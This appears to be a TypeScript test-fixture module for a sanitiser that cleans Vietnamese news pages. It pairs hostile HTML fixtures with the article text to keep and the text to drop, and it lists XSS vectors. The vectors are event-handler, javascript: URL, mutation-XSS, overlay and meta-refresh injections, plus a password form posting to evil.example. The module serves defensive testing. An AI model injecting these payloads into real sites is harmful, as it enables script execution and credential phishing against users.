// The hostile page fixtures (test/fixtures/hostile) with what each must still give: the real article text
// that has to survive the cleaning, and the text that must not reach the digest. Shared by the unit test,
// the Chromium cross-check and the benchmark's robustness table.
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

export const HOSTILE_DIR = join(dirname(fileURLToPath(import.meta.url)), '../fixtures/hostile');

export interface HostileCase {
  file: string;
  /** The address the page is read from (a profile's host for the profile-path page). */
  url: string;
  /** 'article', or the not-article code expected. */
  expect: 'article' | 'no-content';
  /** Sentences of the real article that must survive in bodyText. */
  keeps: string[];
  /** Text that must not be in the article (hidden text, phishing forms, payload text). */
  drops: string[];
  /** Links that must survive (proves links are cleaned, not just deleted). */
  links?: string[];
}

const u = (path: string) => `https://baomau.vn/${path}`;

export const HOSTILE_CASES: HostileCase[] = [
  {
    file: '01-scripts.html',
    url: u('the-gioi/viet-nam-nhat-ban-hop-tac-chuyen-doi-so-1001.html'),
    expect: 'article',
    keeps: ['các dự án nghiên cứu chung về trí tuệ nhân tạo', 'nhiều phòng thí nghiệm chung'],
    // The page's <base href="javascript:..."> makes its relative links unusable: they lose the link, keep the text.
    drops: ['alert(', 'Vui lòng bật JavaScript', 'Nội dung ẩn trong template', 'template script'],
  },
  {
    file: '02-handlers.html',
    url: u('chinh-tri/thu-tuong-tiep-bo-truong-ngoai-giao-australia-1003.html'),
    expect: 'article',
    keeps: [
      'nâng cấp quan hệ lên Đối tác chiến lược toàn diện',
      'Kim ngạch thương mại 2024',
      'Công ước Liên hợp quốc về Luật Biển',
    ],
    drops: ['alert('],
    links: ['https://baomau.vn/the-gioi/1004.html'],
  },
  {
    file: '03-urls.html',
    url: u('the-gioi/hoi-nghi-mekong-lan-thuong-1005.html'),
    expect: 'article',
    keeps: ['phối hợp quản lý và sử dụng bền vững', 'năng lực sản xuất', 'Cộng đồng chia sẻ tương lai'],
    // The page's own text mentions "javascript:" and "data:"; only markup is checked for them.
    drops: ["alert('plain", "alert('entities", 'msgbox'],
    links: ['https://baomau.vn/the-gioi/du-an-1006.html', 'https://evil.example/protocol-relative'],
  },
  {
    file: '04-embeds-forms.html',
    url: u('kinh-te/viet-nam-eu-ra-soat-evfta-1007.html'),
    expect: 'article',
    keeps: ['kim ngạch thương mại song phương năm 2024', 'Cơ chế điều chỉnh biên giới carbon'],
    drops: ['alert(', 'Vui lòng nhập lại mật khẩu', 'Đăng nhập', 'văn bản'],
  },
  { file: '05-frameset.html', url: u('ban-khung.html'), expect: 'no-content', keeps: [], drops: [] },
  {
    file: '06-svg-mathml.html',
    url: u('quoc-phong/viet-nam-an-do-1010.html'),
    expect: 'article',
    keeps: ['gói tín dụng quốc phòng trị giá 500 triệu USD', 'Thỏa thuận về hỗ trợ hậu cần lẫn nhau'],
    drops: ['alert(', 'Bấm vào đây', 'Chữ trong foreignObject'],
  },
  {
    file: '07-css-overlay.html',
    url: u('kinh-te/viet-nam-han-quoc-150-ty-1011.html'),
    expect: 'article',
    keeps: ['đối tác thương mại lớn thứ ba của Việt Nam', 'khoáng sản chiến lược', 'nguồn cung điện ổn định'],
    drops: ['VĂN BẢN', 'CẢNH BÁO BẢO MẬT', 'Tài khoản của bạn đã bị khóa', 'chữ cỡ không'],
  },
  {
    file: '08-mutation-xss.html',
    url: u('thoi-su/luat-dieu-uoc-quoc-te-1012.html'),
    expect: 'article',
    keeps: ['Luật gồm 8 chương, 60 điều', 'Luật có hiệu lực thi hành từ ngày 1/7/2025'],
    drops: [],
  },
  {
    file: '09-spoof.html',
    url: u('the-gioi/ngoai-truong-tham-cuba-1016.html'),
    expect: 'article',
    keeps: ['Đặc khu phát triển Mariel', 'kỷ niệm 65 năm thiết lập quan hệ ngoại giao'],
    drops: ["alert('h1", "alert('sapo"],
  },
  {
    file: '10-markup-text.html',
    url: u('cong-nghe/an-toan-thong-tin-1013.html'),
    expect: 'article',
    keeps: [
      'chuỗi <script>alert(1)</script> là ví dụ kinh điển',
      'thẻ <b>in đậm</b> hoặc <img src=x onerror=alert(1)> được viết như văn bản',
      'như &lt;i&gt; cũng phải giữ nguyên',
      "{{constructor.constructor('alert(1)')()}} và ${alert(document.domain)}",
      '<a href="javascript:alert(1)">bấm vào đây</a>',
      '5 < 7 && 9 > 3',
      'chú thích <!-- ẩn --> đều',
    ],
    drops: [],
  },
  {
    file: '11-dom-clobbering.html',
    url: u('the-gioi/hoi-dong-nhan-quyen-1014.html'),
    expect: 'article',
    keeps: ['Đây là lần thứ ba Việt Nam được bầu', 'nhóm châu Á - Thái Bình Dương có 13 ghế'],
    drops: ['Văn bản trong biểu mẫu'],
  },
  {
    file: '12-vnexpress-profile.html',
    url: 'https://vnexpress.net/tong-bi-thu-hoi-dam-voi-tong-thong-indonesia-4800001.html',
    expect: 'article',
    keeps: ['phân định ranh giới vùng đặc quyền kinh tế', 'Tổng thống Indonesia nhận lời mời thăm cấp nhà nước'],
    drops: ['alert('],
    links: ['https://vnexpress.net/thoi-su/ban-ghi-nho-4800002.html'],
  },
];

/** A real paragraph with a link that must survive next to each vector. */
export const REAL_LINK =
  '<p>Đoạn mở đầu có <a href="https://baomau.vn/lien-ket" target="_self" rel="opener">liên kết thật</a>.</p>';
/** Classic injection vectors, each on its own, for the sanitiser and the renderers. */
export const HOSTILE_VECTORS = [
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=2"><script>window.__pwned=3</script></svg>',
  '<a href="javascript:window.__pwned=4">js link</a>',
  '<a href="java&#x09;script:window.__pwned=5">tab link</a>',
  '<iframe src="javascript:window.__pwned=6"></iframe><iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
  '<form action="https://evil.example"><input name=pw><button>Gửi</button></form>',
  '<p style="position:fixed;inset:0;z-index:99999;background:url(javascript:1)">overlay</p>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=8>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=9></style></mglyph></table></mtext></math>',
  '<img src="https://baomau.vn/anh.jpg" srcset="javascript:1 1x" alt="ảnh thật">',
  '<object data="x.swf"></object><embed src="x.swf"><base href="javascript:1//"><meta http-equiv="refresh" content="0;url=javascript:1">',
];

export function readHostile(file: string): string {
  return readFileSync(join(HOSTILE_DIR, file), 'utf8');
}
